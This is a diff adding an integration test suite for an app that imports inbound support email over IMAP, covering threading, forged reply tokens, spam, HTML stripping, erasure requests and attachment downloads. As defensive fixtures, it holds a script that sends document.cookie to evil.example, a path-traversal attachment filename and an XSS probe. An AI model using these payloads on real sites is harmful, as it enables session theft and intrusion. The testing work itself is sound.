@@ -1,0 +1,365 @@
+import { adminApiPaths } from '@site/api-contract';
+import { startTestDovecot, startTestSmtpSink } from '@site/testing/per-test';
+import { simpleParser } from 'mailparser';
+import { createTransport } from 'nodemailer';
+import { describe, expect, it } from 'vitest';
+import { type AdminBrowser, signedInOperator } from '../test/admin-client.js';
+import { sendMessage, validMessage } from '../test/send-message.js';
+import { readRows } from '../test/stored-rows.js';
+import { buildTestApp } from '../test/test-app.js';
+
+const messagePath = (id: string) => `${adminApiPaths.messages}/${id}`;
+type Answer = { text: string; automatic: boolean; otherSender: boolean; fromAddress: string };
+type Opened = { message: { status: string }; thread: { answers: Answer[] } };
+
+const poll = <T>(read: () => Promise<T>) => expect.poll(read, { timeout: 8000, interval: 50 });
+
+/** A mail as a visitor's mail client sends it. */
+const mailFrom = (headers: Record<string, string>, text: string) =>
+  `${Object.entries({
+    Date: new Date().toUTCString(),
+    'MIME-Version': '1.0',
+    'Content-Type': 'text/plain; charset=utf-8',
+    ...headers,
+  })
+    .map(([name, value]) => `${name}: ${value}`)
+    .join('\r\n')}\r\n\r\n${text}\r\n`;
+
+/** An app reading a real IMAP mailbox, mailing a real SMTP sink; a visitor's message, answered by Anna. */
+async function answeredConversation(settings: Record<string, string> = {}) {
+  const dovecot = await startTestDovecot();
+  const smtp = await startTestSmtpSink();
+  const { app, storage } = await buildTestApp({
+    SMTP_URL: smtp.url,
+    IMAP_URL: dovecot.url,
+    IMAP_POLL_MS: '1000',
+    OUTBOX_POLL_MS: '50',
+    ...settings,
+  });
+  const id = (await sendMessage(app, validMessage)).json<{ id: string }>().id;
+  const anna = await signedInOperator(app, storage, 'anna@example.com');
+  expect(
+    (await anna.post(`${messagePath(id)}/replies`, { text: 'It is 20 a month.', basedOn: 0 })).statusCode,
+  ).toBe(201);
+  const toVisitor = () => smtp.mails.filter((mail) => mail.to.includes('jane@example.com'));
+  await poll(async () => toVisitor().length).toBe(1);
+  const reply = await simpleParser(toVisitor()[0]!.raw);
+  return { app, storage, dovecot, smtp, id, anna, reply, replyTo: reply.replyTo!.value[0]!.address! };
+}
+
+/** A mail with files, built as a mail client builds one. */
+const mailWithFiles = async (options: Parameters<ReturnType<typeof createTransport>['sendMail']>[0]) =>
+  (await createTransport({ streamTransport: true, buffer: true }).sendMail(options)).message as Buffer;
+
+const open = async (browser: AdminBrowser, id: string) => (await browser.get(messagePath(id))).json<Opened>();
+
+describe('mail that comes back', { timeout: 30_000 }, () => {
+  it("files the visitor's answer in its thread, reopens the message, tells the company and flags the mail seen", async () => {
+    const { dovecot, smtp, id, anna, reply, replyTo } = await answeredConversation();
+    await dovecot.deliver(
+      mailFrom(
+        {
+          From: 'Jane Doe <jane@example.com>',
+          To: replyTo,
+          Subject: 'Re: Pricing',
+          'Message-ID': '<answer-1@example.com>',
+          'In-Reply-To': reply.messageId!,
+          References: `<message-${id}@test.example> ${reply.messageId}`,
+        },
+        'Thanks! Does that include SMS?\n\n> It is 20 a month.',
+      ),
+    );
+    await poll(async () => (await open(anna, id)).thread.answers.map((answer) => answer.text)).toEqual([
+      'Thanks! Does that include SMS?\n\n> It is 20 a month.',
+    ]);
+    const opened = await open(anna, id);
+    expect(opened.message.status).toBe('new');
+    expect(opened.thread.answers[0]).toMatchObject({ automatic: false, otherSender: false });
+    await poll(async () => smtp.mails.filter((mail) => mail.raw.includes('Answer: Pricing')).length).toBe(1);
+    const notice = await simpleParser(smtp.mails.find((mail) => mail.raw.includes('Answer: Pricing'))!.raw);
+    expect(notice.to).toMatchObject({ text: 'support@test.example' });
+    expect(notice.text).toContain('Does that include SMS?');
+    await poll(async () => (await dovecot.list()).map((mail) => mail.flags)).toEqual([['\\Seen']]);
+  });
+
+  it('knows its conversation by the +token when a client drops the headers, and not by a forged one', async () => {
+    const { dovecot, id, anna, replyTo, storage } = await answeredConversation();
+    await dovecot.deliver(
+      mailFrom(
+        { From: 'jane@example.com', To: replyTo, Subject: 'Hello again', 'Message-ID': '<bare@example.com>' },
+        'One more question.',
+      ),
+    );
+    await poll(async () => (await open(anna, id)).thread.answers.length).toBe(1);
+    const forged = replyTo.replace(/\.[0-9a-f]{12}@/, '.000000000000@');
+    await dovecot.deliver(
+      mailFrom(
+        { From: 'eve@example.net', To: forged, Subject: 'Let me in', 'Message-ID': '<forged@example.net>' },
+        'Hi',
+      ),
+    );
+    await poll(async () =>
+      readRows(storage, "select email, source from messages where source = 'email'"),
+    ).toEqual([{ email: 'eve@example.net', source: 'email' }]);
+    expect((await open(anna, id)).thread.answers).toHaveLength(1);
+  });
+
+  it('labels an automatic reply and one from another address, and an automatic one reopens nothing', async () => {
+    const { dovecot, smtp, id, anna, reply, replyTo } = await answeredConversation();
+    await dovecot.deliver(
+      mailFrom(
+        {
+          From: 'jane@example.com',
+          To: replyTo,
+          Subject: 'Out of office',
+          'Auto-Submitted': 'auto-replied',
+          'Message-ID': '<ooo@example.com>',
+          'In-Reply-To': reply.messageId!,
+        },
+        'I am away until Monday.',
+      ),
+    );
+    await poll(async () => (await open(anna, id)).thread.answers.length).toBe(1);
+    expect((await open(anna, id)).thread.answers[0]).toMatchObject({ automatic: true });
+    expect((await open(anna, id)).message.status).toBe('answered');
+    await dovecot.deliver(
+      mailFrom(
+        {
+          From: 'Jane at work <jane.doe@work.example>',
+          To: replyTo,
+          Subject: 'Re: Pricing',
+          'Message-ID': '<work@example.com>',
+        },
+        'Writing from work.',
+      ),
+    );
+    await poll(async () => (await open(anna, id)).thread.answers.length).toBe(2);
+    expect((await open(anna, id)).thread.answers[1]).toMatchObject({
+      automatic: false,
+      otherSender: true,
+      fromAddress: 'jane.doe@work.example',
+    });
+    await poll(async () => smtp.mails.filter((mail) => mail.raw.includes('Answer: ')).length).toBe(1);
+  });
+
+  it('makes a mail that names no conversation a message of its own, judged by the spam filter', async () => {
+    const { dovecot, smtp, storage } = await answeredConversation();
+    await dovecot.deliver(
+      mailFrom(
+        {
+          From: 'Nikos <nikos@example.org>',
+          To: 'support@test.example',
+          Subject: 'CRM demo',
+          'Message-ID': '<new@example.org>',
+        },
+        'Could we see a demo of the CRM next week?',
+      ),
+    );
+    await dovecot.deliver(
+      mailFrom(
+        {
+          From: 'seo@spam.example',
+          To: 'support@test.example',
+          Subject: 'Backlinks!!!!',
+          'Message-ID': '<spam@spam.example>',
+        },
+        '[url=https://bit.ly/x]Cheap backlinks[/url] https://bit.ly/y https://tinyurl.com/z',
+      ),
+    );
+    await poll(async () =>
+      readRows(
+        storage,
+        "select email, subject, spam, status from messages where source = 'email' order by seq",
+      ),
+    ).toEqual([
+      { email: 'nikos@example.org', subject: 'CRM demo', spam: 0, status: 'new' },
+      { email: 'seo@spam.example', subject: 'Backlinks!!!!', spam: 1, status: 'new' },
+    ]);
+    await poll(async () => smtp.mails.filter((mail) => mail.raw.includes('CRM demo')).length).toBe(1);
+    expect(smtp.mails.some((mail) => mail.raw.includes('Backlinks'))).toBe(false);
+  });
+
+  it('reads hostile mail as plain text: HTML made text, a mail over the limit left in the mailbox, junk survived', async () => {
+    const { dovecot, storage, app } = await answeredConversation({ INBOUND_MAX_BYTES: '20000' });
+    await dovecot.deliver(
+      mailFrom(
+        {
+          From: 'html@example.org',
+          To: 'support@test.example',
+          Subject: 'HTML only',
+          'Content-Type': 'text/html; charset=utf-8',
+          'Message-ID': '<html@example.org>',
+        },
+        '<p>Hello <b>team</b></p><script>alert(1)</script><img src="https://tracker.example/x.gif">',
+      ),
+    );
+    await dovecot.deliver(
+      mailFrom(
+        {
+          From: 'big@example.org',
+          To: 'support@test.example',
+          Subject: 'Huge',
+          'Message-ID': '<big@example.org>',
+        },
+        'x'.repeat(30_000),
+      ),
+    );
+    await dovecot.deliver(Buffer.from([0, 1, 2, 255, 254, 13, 10, 13, 10, 0, 0, 0]));
+    await dovecot.deliver(
+      mailFrom(
+        {
+          From: 'after@example.org',
+          To: 'support@test.example',
+          Subject: 'After the junk',
+          'Message-ID': '<after@example.org>',
+        },
+        'Still read.',
+      ),
+    );
+    await poll(async () =>
+      (await readRows(storage, "select subject from messages where source = 'email'")).map(
+        (row) => row.subject,
+      ),
+    ).toContain('After the junk');
+    const [html] = await readRows(storage, "select message from messages where subject = 'HTML only'");
+    expect(html!.message).toContain('Hello team');
+    expect(html!.message).not.toMatch(/<|script|tracker/);
+    expect(await readRows(storage, "select id from messages where subject = 'Huge'")).toEqual([]);
+    expect(
+      (await dovecot.list()).some(
+        (mail) => mail.messageId === '<big@example.org>' && !mail.flags.includes('\\Seen'),
+      ),
+    ).toBe(true);
+    expect((await app.inject('/readyz')).statusCode).toBe(200);
+  });
+
+  it('imports every mail once with two instances on one mailbox, and moves them to IMAP_MOVE_TO', async () => {
+    const { dovecot, storage } = await answeredConversation({ IMAP_MOVE_TO: 'Imported' });
+    const second = await buildTestApp(
+      { IMAP_URL: dovecot.url, IMAP_POLL_MS: '1000', IMAP_MOVE_TO: 'Imported' },
+      undefined,
+      undefined,
+      storage,
+    );
+    expect(second.app).toBeDefined();
+    for (let n = 0; n < 10; n++)
+      await dovecot.deliver(
+        mailFrom(
+          {
+            From: `visitor${n}@example.org`,
+            To: 'support@test.example',
+            Subject: `Question ${n}`,
+            'Message-ID': `<q${n}@example.org>`,
+          },
+          `Question number ${n}.`,
+        ),
+      );
+    await poll(async () => (await dovecot.list('Imported')).length).toBe(10);
+    expect(await dovecot.list('INBOX')).toEqual([]);
+    const rows = await readRows(
+      storage,
+      "select subject from messages where source = 'email' order by subject",
+    );
+    expect(rows.map((row) => row.subject)).toEqual(Array.from({ length: 10 }, (_, n) => `Question ${n}`));
+    expect(await readRows(storage, 'select mail_key from imported_mails')).toHaveLength(10);
+  });
+
+  it("gives the visitor's answers in subject access and erases them, in the database and the folder they were moved to", async () => {
+    const { dovecot, id, anna, replyTo, storage } = await answeredConversation({ IMAP_MOVE_TO: 'Imported' });
+    await dovecot.deliver(
+      mailFrom(
+        { From: 'jane@example.com', To: replyTo, Subject: 'Re', 'Message-ID': '<a@example.com>' },
+        'My answer.',
+      ),
+    );
+    await dovecot.deliver(
+      mailFrom(
+        {
+          From: 'other@example.org',
+          To: 'support@test.example',
+          Subject: 'Kept',
+          'Message-ID': '<k@example.org>',
+        },
+        'Not about Jane.',
+      ),
+    );
+    await poll(async () => (await dovecot.list('Imported')).map((mail) => mail.messageId)).toEqual([
+      '<a@example.com>',
+      '<k@example.org>',
+    ]);
+    const access = await anna.post(adminApiPaths.subjectAccess, { email: 'jane@example.com' });
+    expect(access.json()).toMatchObject({ answers: [{ message_id: id, body: 'My answer.' }] });
+    expect((await anna.post(adminApiPaths.eraseSubject, { email: 'jane@example.com' })).statusCode).toBe(200);
+    expect(await readRows(storage, 'select * from inbound_mails')).toEqual([]);
+    await poll(async () => (await dovecot.list('Imported')).map((mail) => mail.messageId)).toEqual([
+      '<k@example.org>',
+    ]);
+    // The erased mail's key stays, naming no message and no one, so reading the mailbox again never brings it back.
+    const keys = await readRows(
+      storage,
+      'select mail_key, message_id from imported_mails order by message_id',
+    );
+    expect(keys).toHaveLength(2);
+    expect(keys.map((row) => row.message_id)).toContain(null);
+    expect(JSON.stringify(keys)).not.toContain('example.com');
+  });
+
+  it('keeps the files of an answer within the cap and gives them to operators only as downloads', async () => {
+    const { dovecot, id, anna, reply, replyTo, storage } = await answeredConversation({
+      INBOUND_ATTACHMENT_MAX_BYTES: '5000',
+    });
+    const page = '<script>document.location="https://evil.example/?c="+document.cookie</script>';
+    const pdf = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(2000, 7)]);
+    await dovecot.deliver(
+      await mailWithFiles({
+        from: 'Jane Doe <jane@example.com>',
+        to: replyTo,
+        subject: 'Re: Pricing',
+        inReplyTo: reply.messageId!,
+        text: 'Our brief and a page.',
+        attachments: [
+          { filename: 'brief.pdf', content: pdf },
+          { filename: '../../etc/évil "page".html', content: page, contentType: 'text/html' },
+          { filename: 'video.mp4', content: Buffer.alloc(9000, 1) },
+        ],
+      }),
+    );
+    await poll(async () => (await open(anna, id)).thread.answers.length).toBe(1);
+    const [answer] = (await open(anna, id)).thread.answers as (Answer & {
+      attachments: { seq: number; fileName: string; size: number }[];
+    })[];
+    expect(answer!.text).toBe('Our brief and a page.\n\n[Attachment left out: video.mp4, 9 kB]');
+    expect(answer!.attachments.map(({ fileName, size }) => ({ fileName, size }))).toEqual([
+      { fileName: 'brief.pdf', size: pdf.length },
+      { fileName: 'évil "page".html', size: page.length },
+    ]);
+    const download = await anna.get(`${adminApiPaths.attachments}/${answer!.attachments[1]!.seq}`);
+    expect(download.statusCode).toBe(200);
+    expect(download.headers).toMatchObject({
+      'content-type': 'application/octet-stream',
+      'x-content-type-options': 'nosniff',
+      'content-disposition': `attachment; filename="_vil _page_.html"; filename*=UTF-8''%C3%A9vil%20%22page%22.html`,
+    });
+    expect(download.headers['content-security-policy']).toContain('sandbox');
+    expect(download.body).toBe(page);
+    const pdfDownload = await anna.get(`${adminApiPaths.attachments}/${answer!.attachments[0]!.seq}`);
+    expect(pdfDownload.rawPayload.equals(pdf)).toBe(true);
+    expect((await anna.get(`${adminApiPaths.attachments}/999999`)).statusCode).toBe(404);
+    expect((await anna.get(`${adminApiPaths.attachments}/x`)).statusCode).toBe(400);
+    const audited = await readRows(
+      storage,
+      "select target from audit_log where action = 'download-attachment'",
+    );
+    expect(audited.map((row) => row.target)).toEqual([
+      `${id} attachment:${answer!.attachments[1]!.seq}`,
+      `${id} attachment:${answer!.attachments[0]!.seq}`,
+    ]);
+    expect((await anna.post(adminApiPaths.eraseSubject, { email: 'jane@example.com' })).statusCode).toBe(200);
+    expect(await readRows(storage, 'select seq from attachments')).toEqual([]);
+  });
+
+  it('refuses attachments to anyone not signed in', async () => {
+    const { app } = await buildTestApp();
+    expect((await app.inject(`${adminApiPaths.attachments}/1`)).statusCode).toBe(401);
+  });
+});
